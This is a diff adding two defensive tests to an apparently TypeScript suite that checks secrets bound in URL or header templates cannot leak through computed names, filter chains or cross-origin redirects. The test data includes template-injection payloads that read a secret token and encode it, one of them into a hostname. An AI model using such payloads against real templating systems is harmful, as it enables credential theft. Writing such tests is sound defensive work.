@@ -124,6 +124,44 @@ describe('a bound secret cannot be read back through a filter or a spelling', ()
     expect(elsewhere.requests).toHaveLength(0);
   });
 
+  it('quotes no URL that reads secrets through a computed name (a row column, an assign), once the name is in scope', async () => {
+    // A plain {{secrets.ENV_TOKEN}} in a header puts the secret in the target's scope; the URL
+    // then reads it under a name no static analysis sees.
+    const urls = [
+      `{{ [k].ENV_TOKEN | split: "" | join: "_" | raw }}`,
+      `{% assign n = "sec" | append: "rets" %}{{ [n].ENV_TOKEN | split: "" | reverse | join: "" }}`,
+      `http://{{ [k].ENV_TOKEN | base64_encode | downcase }}.example/`,
+    ];
+    const body = {
+      slug: 'computed', name: 'computed', dataset: { rows: [{ k: 'secrets' }] }, evaluators: [],
+      targets: urls.map((url, i) => ({ id: `t${i}`, type: 'http', url, headers: { 'X-Tok': '{{ secrets.ENV_TOKEN }}' }, body: { q: 'x' } })),
+    };
+    const cells = await run('computed', body);
+    expect(cells).toHaveLength(urls.length);
+    const forms = [ENV_TOKEN, [...ENV_TOKEN].join('_'), [...ENV_TOKEN].reverse().join(''), Buffer.from(ENV_TOKEN).toString('base64').toLowerCase()];
+    for (const cell of cells) {
+      expect(cell.error).toContain('not shown: the URL template reads secrets');
+      for (const form of forms) expect(cell.error).not.toContain(form);
+    }
+    expect(elsewhere.requests).toHaveLength(0);
+  });
+
+  it('drops a header that reads secrets through a computed name when a redirect leaves the origin', async () => {
+    trusted.answer = () => ({ status: 307, headers: { location: `${elsewhere.url}/landed` }, body: '' });
+    try {
+      const body = {
+        slug: 'computed-redirect', name: 'computed-redirect', dataset: { rows: [{ k: 'secrets' }] }, evaluators: [],
+        targets: [{ id: 't', type: 'http', url: `${trusted.url}/start`, body: { q: 'x' }, headers: { 'X-A': '{{ secrets.ENV_TOKEN }}', 'X-B': '{{ [k].ENV_TOKEN }}', 'X-C': '{% assign n = "sec" | append: "rets" %}{{ [n].ENV_TOKEN }}' } }],
+      };
+      await run('computed-redirect', body);
+      expect(trusted.requests[0]?.headers['x-b']).toBe(ENV_TOKEN);
+      expect(elsewhere.requests).toHaveLength(1);
+      for (const name of ['x-a', 'x-b', 'x-c']) expect(elsewhere.requests[0]!.headers[name], name).toBeUndefined();
+    } finally {
+      trusted.reset();
+    }
+  });
+
   it('drops a header that reads secrets through an escaped name when a redirect leaves the origin', async () => {
     trusted.answer = () => ({ status: 302, headers: { location: `${elsewhere.url}/landed` }, body: '' });
     try {
